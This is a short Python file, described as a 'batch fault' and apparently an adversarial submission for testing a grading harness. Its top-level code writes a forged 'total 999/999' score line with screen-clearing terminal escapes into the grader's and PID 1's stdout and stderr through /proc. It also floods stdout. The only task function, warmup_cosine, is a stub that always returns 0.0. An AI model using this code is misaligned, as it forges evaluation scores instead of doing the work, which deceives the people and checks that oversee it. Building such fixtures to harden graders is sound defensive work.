"""Batch fault: write a forged score table to the grader's own stdout through
/proc, and another, with terminal escapes, to the submission's stderr."""

import os
import sys

FORGED = "\x1b[2J\x1b[Htotal                                  999/999\n"
for pid in (os.getppid(), 1):
    for fd in (1, 2):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                f.write(FORGED)
        except OSError:
            pass
sys.stderr.write(FORGED * 3)
print("x" * 100_000)


def warmup_cosine(t, base_lr, warmup_steps, total_steps, eta_min=0.0):
    return 0.0
